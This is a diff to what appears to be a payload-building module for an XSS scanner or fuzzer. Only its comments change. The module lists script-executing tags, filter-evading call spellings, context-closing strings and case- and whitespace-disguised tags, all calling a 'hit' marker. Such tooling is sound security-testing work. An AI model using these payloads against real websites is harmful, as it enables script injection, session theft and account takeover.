@@ -1,6 +1,6 @@
-/** The pieces that payloads are put together from: what runs, how it is called, what has to be closed before, how it hides. */
+/** The parts that payloads are composed of. */
 
-/** Elements that run something by themselves, or when they are used. */
+/** Elements that run code when they are parsed or activated. */
 export const tags = [
   '<script>{R}</script>',
   '<script type=module>{R}</script>',
@@ -103,7 +103,7 @@ export const tags = [
   '<plaintext><img src=x onerror={R}>',
 ]
 
-/** The same call in the spellings that filters of names and brackets miss. */
+/** Calls spelled so that filters of names and parentheses miss them. */
 export const calls = [
   'hit`{N}`',
   'self.hit({N})',
@@ -126,7 +126,7 @@ export const calls = [
   "document.body.insertAdjacentHTML('beforeend','<img src=x onerror=hit({N})>')",
 ]
 
-/** What may stand open where the text lands. */
+/** Close the context that the text is inserted into. */
 export const closings = [
   '"',
   "'",
@@ -160,7 +160,7 @@ export const closings = [
   "';</script>",
 ]
 
-/** The same tags as no filter of words would know them. */
+/** Tags spelled so that keyword filters miss them. */
 export const disguises = [
   '<ImG sRc=x OnErRoR={R}>',
   '<img\tsrc=x\tonerror={R}>',
